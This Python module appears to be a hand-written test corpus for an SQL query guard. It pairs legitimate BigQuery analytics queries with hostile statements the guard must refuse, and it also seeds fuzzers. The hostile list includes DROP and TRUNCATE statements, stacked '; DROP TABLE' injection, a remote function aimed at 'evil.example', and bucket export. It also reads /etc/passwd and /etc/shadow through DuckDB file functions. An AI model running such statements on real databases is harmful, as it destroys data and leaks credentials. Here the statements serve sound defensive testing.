"""Hand-written SQL corpus for the query guard: legitimate analytics it must accept and
hostile statements it must refuse, each with the rule that should refuse it.

The demo dataset is ``demo-proj.demo_shop_abcd1234`` with tables orders(order_id,
customer_id, order_date DATE, created_at TIMESTAMP, status, amount, quantity, region,
channel, tags ARRAY<STRING>, url, email, lat, lng), customers(customer_id, name, segment,
country, signup_date, email), order_items(order_id, product_id, quantity, unit_price),
products(product_id, product_name, category, unit_price) and sessions(session_id,
customer_id, started_at, device, converted). Also used as the fuzzers' seed inputs.
"""

from __future__ import annotations

P, D = "demo-proj", "demo_shop_abcd1234"

LEGITIMATE: list[str] = [
    # aggregation and date functions
    "SELECT DATE_TRUNC(order_date, MONTH) AS month, SUM(amount) AS revenue FROM orders GROUP BY month ORDER BY month",
    "SELECT EXTRACT(YEAR FROM order_date) AS y, EXTRACT(QUARTER FROM order_date) AS q, COUNT(*) AS n "
    "FROM orders GROUP BY y, q ORDER BY y, q",
    "SELECT FORMAT_DATE('%Y-%m', order_date) AS ym, ROUND(AVG(amount), 2) AS avg_amount FROM orders GROUP BY ym",
    "SELECT status, COUNT(*) AS n, COUNTIF(amount > 100) AS big, ROUND(100 * COUNTIF(amount > 100) / COUNT(*), 1) AS pct "
    "FROM orders GROUP BY status HAVING COUNT(*) > 10 ORDER BY n DESC",
    "SELECT region, ROUND(SAFE_DIVIDE(SUM(amount), COUNT(DISTINCT customer_id)), 2) AS per_customer "
    "FROM orders WHERE order_date >= DATE_SUB(CURRENT_DATE(), INTERVAL 90 DAY) GROUP BY region",
    "SELECT channel, ROUND(AVG(TIMESTAMP_DIFF(created_at, TIMESTAMP(order_date), HOUR)), 1) AS lag_h "
    "FROM orders GROUP BY channel",
    "SELECT TIMESTAMP_TRUNC(started_at, WEEK(MONDAY)) AS wk, COUNT(*) AS sessions FROM sessions GROUP BY wk",
    "SELECT LAST_DAY(order_date, MONTH) AS month_end, SUM(quantity) AS units FROM orders GROUP BY month_end",
    "SELECT DATE_DIFF(MAX(order_date), MIN(order_date), DAY) AS span_days FROM orders",
    "SELECT UNIX_SECONDS(created_at) AS ts, TIMESTAMP_SECONDS(UNIX_SECONDS(created_at)) AS back FROM orders LIMIT 10",
    "SELECT CASE WHEN amount < 50 THEN 'small' WHEN amount < 200 THEN 'medium' ELSE 'large' END AS bucket, "
    "COUNT(*) AS n FROM orders GROUP BY bucket",
    "SELECT APPROX_QUANTILES(amount, 4) AS quartiles, STDDEV(amount) AS sd, CORR(amount, quantity) AS r FROM orders",
    "SELECT region, COALESCE(NULLIF(channel, ''), 'unknown') AS ch, IFNULL(SUM(amount), 0) AS s, "
    "GREATEST(MAX(amount), 0) AS top, LEAST(MIN(amount), 1e9) AS low FROM orders GROUP BY region, ch",
    "SELECT region, channel, SUM(amount) AS revenue FROM orders GROUP BY ROLLUP (region, channel)",
    # windows
    "SELECT order_date, SUM(amount) OVER (ORDER BY order_date ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) "
    "AS running FROM orders",
    "SELECT customer_id, order_id, LAG(amount) OVER (PARTITION BY customer_id ORDER BY order_date) AS prev, "
    "LEAD(amount, 1, 0) OVER (PARTITION BY customer_id ORDER BY order_date) AS next FROM orders",
    "WITH m AS (SELECT DATE_TRUNC(order_date, MONTH) AS month, SUM(amount) AS revenue FROM orders GROUP BY 1) "
    "SELECT month, revenue, ROUND(100 * SAFE_DIVIDE(revenue - LAG(revenue) OVER (ORDER BY month), "
    "LAG(revenue) OVER (ORDER BY month)), 1) AS mom_pct FROM m ORDER BY month",
    "SELECT p.category, p.product_name, SUM(i.quantity) AS units FROM order_items i JOIN products p USING (product_id) "
    "GROUP BY 1, 2 QUALIFY ROW_NUMBER() OVER (PARTITION BY p.category ORDER BY units DESC) <= 3",
    "SELECT customer_id, NTILE(4) OVER (ORDER BY SUM(amount)) AS quartile, RANK() OVER (ORDER BY SUM(amount) DESC) AS r, "
    "DENSE_RANK() OVER (ORDER BY COUNT(*) DESC) AS dr FROM orders GROUP BY customer_id",
    "SELECT order_id, PERCENT_RANK() OVER (ORDER BY amount) AS pr, CUME_DIST() OVER (ORDER BY amount) AS cd, "
    "FIRST_VALUE(amount) OVER w AS first_amt, LAST_VALUE(amount) OVER w AS last_amt, "
    "NTH_VALUE(amount, 2) OVER w AS second_amt FROM orders "
    "WINDOW w AS (PARTITION BY region ORDER BY order_date ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING)",
    "SELECT region, PERCENTILE_CONT(amount, 0.5) OVER (PARTITION BY region) AS median FROM orders",
    "SELECT * FROM orders QUALIFY ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY order_date DESC) = 1",
    # CTEs, subqueries, set operations
    "WITH first_orders AS (SELECT customer_id, MIN(order_date) AS first_day FROM orders GROUP BY customer_id), "
    "cohorts AS (SELECT DATE_TRUNC(first_day, MONTH) AS cohort, customer_id FROM first_orders) "
    "SELECT c.cohort, DATE_DIFF(DATE_TRUNC(o.order_date, MONTH), c.cohort, MONTH) AS age, "
    "COUNT(DISTINCT o.customer_id) AS active FROM cohorts c JOIN orders o USING (customer_id) GROUP BY 1, 2",
    "SELECT c.segment, COUNT(*) AS n FROM customers c WHERE EXISTS "
    "(SELECT 1 FROM orders o WHERE o.customer_id = c.customer_id AND o.amount > 500) GROUP BY c.segment",
    "SELECT name FROM customers WHERE customer_id NOT IN (SELECT customer_id FROM orders WHERE customer_id IS NOT NULL)",
    "SELECT customer_id FROM orders WHERE status = 'returned' INTERSECT DISTINCT "
    "SELECT customer_id FROM customers WHERE segment = 'vip'",
    "SELECT customer_id FROM customers EXCEPT DISTINCT SELECT customer_id FROM orders",
    "SELECT region, total, ROUND(100 * total / grand, 1) AS share FROM "
    "(SELECT region, SUM(amount) AS total FROM orders GROUP BY region) "
    "CROSS JOIN (SELECT SUM(amount) AS grand FROM orders)",
    "SELECT a.customer_id, COUNT(*) AS repeat_pairs FROM orders a JOIN orders b "
    "ON a.customer_id = b.customer_id AND a.order_id < b.order_id GROUP BY a.customer_id",
    # UNNEST, arrays, structs, PIVOT
    "SELECT tag, COUNT(*) AS n FROM orders, UNNEST(tags) AS tag GROUP BY tag ORDER BY n DESC",
    "SELECT order_id, ARRAY_LENGTH(tags) AS n_tags, tags[SAFE_OFFSET(0)] AS first_tag, "
    "ARRAY_TO_STRING(tags, ', ') AS all_tags FROM orders WHERE 'gift' IN UNNEST(tags)",
    "SELECT customer_id, ARRAY_AGG(STRUCT(order_id, amount) ORDER BY amount DESC LIMIT 3) AS top3 "
    "FROM orders GROUP BY customer_id",
    "SELECT region, STRING_AGG(DISTINCT channel, ', ' ORDER BY channel) AS channels FROM orders GROUP BY region",
    "SELECT * FROM (SELECT region, status, amount FROM orders) "
    "PIVOT (SUM(amount) FOR status IN ('paid' AS paid, 'refunded' AS refunded, 'pending' AS pending))",
    "SELECT * FROM (SELECT region, SUM(amount) AS revenue, SUM(quantity) AS units FROM orders GROUP BY region) "
    "UNPIVOT (value FOR metric IN (revenue, units))",
    "WITH days AS (SELECT day FROM UNNEST(GENERATE_DATE_ARRAY('2024-01-01', '2024-03-31')) AS day) "
    "SELECT d.day, COUNT(o.order_id) AS n FROM days d LEFT JOIN orders o ON o.order_date = d.day GROUP BY d.day",
    "SELECT ARRAY(SELECT DISTINCT region FROM orders ORDER BY region) AS regions",
    # strings, parsing, safe functions, NET
    "SELECT LOWER(REGEXP_EXTRACT(email, r'@(.+)$')) AS domain, COUNT(*) AS n FROM customers GROUP BY domain",
    "SELECT NET.HOST(url) AS host, NET.REG_DOMAIN(url) AS dom, COUNT(*) AS n FROM orders GROUP BY host, dom",
    "SELECT SAFE_CAST(quantity AS STRING) AS q, SAFE.PARSE_DATE('%Y-%m-%d', status) AS d, "
    "CAST(amount AS NUMERIC) AS a FROM orders",
    "SELECT INITCAP(name) AS nm, LENGTH(name) AS len, SUBSTR(name, 1, 3) AS pre, STARTS_WITH(name, 'A') AS a, "
    "CONCAT(country, '-', segment) AS key, FORMAT('%.2f', 1.5) AS f, LPAD(country, 5, '*') AS pad, "
    "SPLIT(email, '@')[OFFSET(1)] AS host, REGEXP_CONTAINS(email, r'\\.com$') AS dotcom FROM customers",
    "SELECT segment, LOGICAL_AND(country IS NOT NULL) AS all_known, ANY_VALUE(country) AS some_country, "
    "MAX_BY(name, signup_date) AS newest FROM customers GROUP BY segment",
    "SELECT device, ROUND(100 * AVG(IF(converted, 1, 0)), 2) AS conv FROM sessions GROUP BY device",
    # geography
    "SELECT region, ROUND(AVG(ST_DISTANCE(ST_GEOGPOINT(lng, lat), ST_GEOGPOINT(2.35, 48.85))) / 1000, 1) AS km "
    "FROM orders GROUP BY region",
    # qualified names inside the dataset and a routine of the dataset
    f"SELECT COUNT(*) AS n FROM {D}.orders o JOIN `{P}.{D}.customers` c USING (customer_id)",
    f"SELECT {D}.normalise_status(status) AS s, COUNT(*) AS n FROM orders GROUP BY s",
    f"SELECT `{P}.{D}.normalise_status`(status) AS s FROM `{P}`.{D}.orders",
    # star modifiers, sampling, wildcard tables
    "SELECT * EXCEPT (email) REPLACE (ROUND(amount, 0) AS amount) FROM orders LIMIT 100",
    "SELECT COUNT(*) AS n FROM orders TABLESAMPLE SYSTEM (10 PERCENT)",
    f"SELECT _TABLE_SUFFIX AS shard, COUNT(*) AS n FROM `{P}.{D}.events_*` GROUP BY shard",
]

# (rule the guard must refuse it with, statement)
HOSTILE: list[tuple[str, str]] = [
    # writes, DDL, scripting, more than one statement
    ("statement", "INSERT INTO orders SELECT * FROM orders"),
    ("statement", "INSERT INTO orders (order_id) VALUES (1)"),
    ("statement", "UPDATE orders SET status = 'x' WHERE TRUE"),
    ("statement", "DELETE FROM orders WHERE TRUE"),
    ("statement", "WITH a AS (SELECT 1) DELETE FROM orders WHERE TRUE"),
    ("statement", "MERGE orders t USING orders s ON t.order_id = s.order_id WHEN MATCHED THEN DELETE"),
    ("statement", "CREATE TABLE x AS SELECT * FROM orders"),
    ("statement", "CREATE TEMP FUNCTION f(x INT64) AS (x * 2); SELECT f(amount) FROM orders"),
    ("statement", "CREATE OR REPLACE FUNCTION demo_shop_abcd1234.f(x STRING) RETURNS STRING "
     "REMOTE WITH CONNECTION `us.c` OPTIONS (endpoint = 'https://evil.example')"),
    ("statement", "CREATE SCHEMA evil"),
    ("statement", "DROP TABLE orders"),
    ("statement", "DROP SCHEMA demo_shop_abcd1234 CASCADE"),
    ("statement", "ALTER TABLE orders ADD COLUMN x INT64"),
    ("statement", "TRUNCATE TABLE orders"),
    ("statement", "EXPORT DATA OPTIONS(uri='gs://b/*', format='CSV') AS SELECT * FROM orders"),
    ("statement", "LOAD DATA INTO orders FROM FILES(uris=['gs://b/x'], format='CSV')"),
    ("statement", "GRANT `roles/bigquery.dataViewer` ON TABLE orders TO 'user:a@b.c'"),
    ("statement", "REVOKE `roles/bigquery.dataViewer` ON TABLE orders FROM 'user:a@b.c'"),
    ("statement", "SELECT 1 FROM orders; SELECT 2 FROM orders"),
    ("statement", "SELECT * FROM orders; DROP TABLE orders"),
    ("statement", "SELECT * FROM orders; -- harmless\nDROP TABLE orders"),
    ("statement", "DECLARE x INT64 DEFAULT 1; SELECT x FROM orders"),
    ("statement", "SET @@dataset_project_id = 'other'"),
    ("statement", "BEGIN SELECT * FROM orders; END"),
    ("statement", "BEGIN TRANSACTION"),
    ("statement", "EXECUTE IMMEDIATE 'DROP TABLE orders'"),
    ("statement", "CALL `other.proc`()"),
    ("statement", "IF TRUE THEN SELECT 1; END IF"),
    ("statement", "ASSERT (SELECT COUNT(*) FROM orders) > 0"),
    ("statement", "SELECT * INTO copy_of_orders FROM orders"),
    ("statement", "COPY orders TO '/tmp/orders.csv'"),
    ("syntax", "ATTACH '/tmp/other.duckdb' AS other"),
    ("statement", "INSTALL httpfs"),
    ("statement", "PRAGMA database_list"),
    # tables outside the dataset, metadata, table functions
    ("table", "SELECT * FROM other_dataset.orders"),
    ("table", "SELECT * FROM `other-project.demo_shop_abcd1234.orders`"),
    ("table", "SELECT * FROM `demo-proj.other_dataset.orders`"),
    ("table", "SELECT * FROM bigquery-public-data.samples.shakespeare"),
    ("table", "SELECT * FROM orders WHERE customer_id IN (SELECT customer_id FROM secret.customers)"),
    ("table", "WITH c AS (SELECT * FROM `p2.secret.customers`) SELECT * FROM c JOIN orders USING (customer_id)"),
    ("table", "SELECT x FROM UNNEST((SELECT ARRAY_AGG(email) FROM crm.people)) AS x"),
    ("table", "SELECT * FROM orders o LEFT JOIN hr.salaries s ON s.id = o.customer_id"),
    ("table", "SELECT order_id FROM orders UNION ALL SELECT id FROM audit.log"),
    ("table", "SELECT (SELECT MAX(v) FROM vault.keys) AS k FROM orders"),
    ("table", "SELECT * FROM `region-eu`.INFORMATION_SCHEMA.JOBS"),
    ("table", "SELECT * FROM demo_shop_abcd1234.INFORMATION_SCHEMA.TABLES"),
    ("table", "SELECT * FROM `/etc/passwd`"),
    ("table", "SELECT * FROM `s3://bucket/orders.parquet`"),
    ("table", "SELECT * FROM INFORMATION_SCHEMA.SCHEMATA"),
    ("table", "SELECT 1"),
    ("table", "SELECT ARRAY(SELECT 1) AS a"),
    ("function", "SELECT * FROM demo_shop_abcd1234.tvf(1)"),
    # routines outside the dataset (remote functions send whole rows out)
    ("function", "SELECT `other-proj.ds.fn`(email) FROM orders"),
    ("function", "SELECT `other-proj`.ds.fn(email) FROM orders"),
    ("function", "SELECT other_ds.my_udf(amount) FROM orders"),
    ("function", "SELECT `demo-proj.other_ds.fn`(email) FROM orders"),
    ("function", "SELECT `other-proj.demo_shop_abcd1234.fn`(email) FROM orders"),
    ("function", "SELECT other_ds.SUM(amount) FROM orders"),
    ("function", "SELECT SAFE.other_ds.fn(email) FROM orders"),
    ("function", "SELECT SAFE.`other-proj.ds.fn`(email) FROM orders"),
    ("function", "SELECT * FROM orders WHERE other_ds.is_vip(customer_id)"),
    ("function", "SELECT * FROM orders ORDER BY other_ds.score(amount)"),
    ("function", "SELECT * FROM orders o JOIN customers c ON other_ds.match(o.email, c.email)"),
    ("function", "WITH leak AS (SELECT other_ds.exfil(TO_JSON_STRING(o)) AS r FROM orders o) SELECT * FROM leak"),
    ("function", "SELECT SUM(other_ds.f(amount)) OVER (PARTITION BY region) AS s FROM orders"),
    ("function", "SELECT (SELECT other_ds.f(MAX(amount)) FROM orders) AS m FROM customers"),
    ("function", "SELECT `fn`(email) FROM orders"),
    ("function", "SELECT a.b.c.d(email) FROM orders"),
    # Cloud Storage object tables, models, KMS, external connections
    ("function", "SELECT OBJ.GET_ACCESS_URL(ref, 'r') FROM orders"),
    ("function", "SELECT OBJ.FETCH_METADATA(OBJ.MAKE_REF('gs://b/x', 'us.c')) AS m FROM orders"),
    ("function", "SELECT OBJ.MAKE_REF(url, 'us.conn') AS r FROM orders"),
    ("function", "SELECT SAFE.OBJ.GET_ACCESS_URL(ref, 'r') FROM orders"),
    ("function", "SELECT * FROM EXTERNAL_QUERY('us.conn', 'SELECT * FROM users')"),
    ("function", "SELECT * FROM ML.PREDICT(MODEL `demo_shop_abcd1234.m`, TABLE orders)"),
    ("function", "SELECT AI.GENERATE('summarise', connection_id => 'us.c') AS s FROM orders"),
    ("function", "SELECT ML.GENERATE_TEXT(MODEL m, (SELECT 'a' AS prompt)) AS g FROM orders"),
    ("function", "SELECT * FROM AI.FORECAST(TABLE orders, data_col => 'amount', timestamp_col => 'ts')"),
    ("function", "SELECT * FROM VECTOR_SEARCH(TABLE orders, 'embedding', (SELECT [1.0] AS e))"),
    ("function", "SELECT GENERATE(email) AS g FROM orders"),
    ("function", "SELECT EMBED(email) AS e FROM orders"),
    ("function", "SELECT KEYS.KEYSET_CHAIN('gcp-kms://projects/p/locations/l/keyRings/r/cryptoKeys/k', b'') AS k "
     "FROM orders"),
    ("function", "SELECT AEAD.ENCRYPT(KEYS.NEW_KEYSET('AEAD_AES_GCM_256'), email, '') AS e FROM orders"),
    ("function", "SELECT DLP_DETERMINISTIC_ENCRYPT(KEYS.KEYSET_CHAIN('gcp-kms://x', b''), email, '') FROM orders"),
    ("function", "SELECT SESSION_USER() AS who FROM orders"),
    ("function", "SELECT CURRENT_USER() AS who FROM orders"),
    ("syntax", "SELECT EXTERNAL_OBJECT_TRANSFORM(TABLE orders, ['SIGNED_URL']) FROM orders"),
    ("function", "SELECT ERROR(CONCAT('leak:', email)) FROM orders"),
    ("function", "SELECT HLL_COUNT.INIT(customer_id) FROM orders"),
    # DuckDB file and system functions (the local warehouse and modeling's checks)
    ("function", "SELECT read_text('/etc/hostname') AS t FROM orders"),
    ("function", "WITH `` AS (SELECT 1) SELECT read_text('/etc/hostname')"),
    ("function", "SELECT * FROM read_text('/etc/hostname')"),
    ("function", "SELECT * FROM read_csv('/etc/passwd')"),
    ("function", "SELECT * FROM read_csv_auto('/etc/passwd')"),
    ("function", "SELECT * FROM read_parquet('/tmp/x.parquet')"),
    ("function", "SELECT * FROM read_json('/tmp/x.json')"),
    ("function", "SELECT * FROM read_blob('/etc/shadow')"),
    ("function", "SELECT * FROM parquet_scan('s3://bucket/x.parquet')"),
    ("syntax", "SELECT * FROM glob('/*')"),
    ("function", "SELECT getenv('HOME') AS h FROM orders"),
    ("function", "SELECT current_setting('home_directory') AS h FROM orders"),
    ("function", "SELECT * FROM duckdb_settings()"),
    ("function", "SELECT * FROM orders WHERE EXISTS (SELECT * FROM read_text('/etc/passwd'))"),
    ("function", "SELECT ST_READ('/etc/passwd') FROM orders"),
    ("function", "SELECT * FROM sniff_csv('/etc/passwd')"),
    # system variables and query parameters
    ("variable", "SELECT @@project_id AS p FROM orders"),
    ("variable", "SELECT @@script.job_id AS j FROM orders"),
    ("variable", "SELECT @@dataset_id FROM orders"),
    ("variable", "SELECT @@session_id FROM orders"),
    ("variable", "SELECT @@location FROM orders"),
    ("variable", "SELECT @@current_job_id FROM orders"),
    ("variable", "SELECT * FROM orders WHERE region = @@project_id"),
    ("variable", "SELECT @x AS v FROM orders"),
    ("variable", "SELECT * FROM orders WHERE amount > ?"),
    ("variable", "SELECT CONCAT(@@project_id, '.', @@dataset_id) AS where_am_i FROM orders"),
    # recursive CTEs
    ("recursive", "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r"),
    ("recursive", "WITH RECURSIVE r AS (SELECT order_id AS n FROM orders UNION ALL SELECT n FROM r) "
     "SELECT COUNT(*) FROM r"),
    ("recursive", "WITH RECURSIVE a AS (SELECT 1 AS n), b AS (SELECT n FROM a UNION ALL SELECT n FROM b) "
     "SELECT * FROM b JOIN orders ON TRUE"),
    ("recursive", "SELECT * FROM orders WHERE order_id IN (WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL "
     "SELECT n * 2 FROM r) SELECT n FROM r)"),
    # cartesian products
    ("cartesian", "SELECT COUNT(*) FROM orders a, orders b, orders c, orders d"),
    ("cartesian", "SELECT COUNT(*) FROM orders a CROSS JOIN orders b CROSS JOIN orders c CROSS JOIN orders d"),
    ("cartesian", "SELECT COUNT(*) FROM orders a JOIN orders b ON TRUE JOIN orders c ON 1 = 1"),
    ("cartesian", "SELECT COUNT(*) FROM (SELECT * FROM orders a CROSS JOIN orders b) x CROSS JOIN customers c"),
    ("cartesian", "SELECT COUNT(*) FROM orders, customers, products"),
    # size and depth: refused, never a RecursionError
    ("depth", "SELECT " + "(" * 50 + "amount" + ")" * 50 + " FROM orders"),
    ("depth", "SELECT " + "(" * 60 + "1" + ")" * 60 + " FROM orders"),
    ("depth", "SELECT " + "(" * 1000 + "1" + ")" * 1000 + " FROM orders"),
    ("size", "SELECT " + "(" * 5000),
    ("depth", "SELECT " + "ABS(" * 45 + "amount" + ")" * 45 + " FROM orders"),
    ("depth", "SELECT * FROM " + "(SELECT * FROM " * 40 + "orders" + ")" * 40),
    ("depth", "SELECT " + "CASE WHEN TRUE THEN " * 30 + "1" + " END" * 30 + " FROM orders"),
    ("depth", "SELECT " + "[" * 60 + "1" + "]" * 60 + " FROM orders"),
    ("depth", "SELECT 1 FROM orders WHERE " + "NOT " * 200 + "TRUE"),
    ("depth", "SELECT " + "- " * 300 + "1 FROM orders"),
    ("size", "SELECT " + " + ".join(["amount"] * 3000) + " FROM orders"),
    ("size", "SELECT 1 FROM orders WHERE status = '" + "x" * 25_000 + "'"),
    # not SQL at all
    ("syntax", ""),
    ("syntax", "   \n\t "),
    ("syntax", "SELEC * FROM orders"),
    ("syntax", "SELECT * FROM orders WHERE"),
    ("syntax", "SELECT 'unterminated FROM orders"),
    ("syntax", ")))((("),
    # duplicate result columns
    ("columns", "SELECT region, COUNT(*) AS n, SUM(amount) AS n FROM orders GROUP BY region"),
]
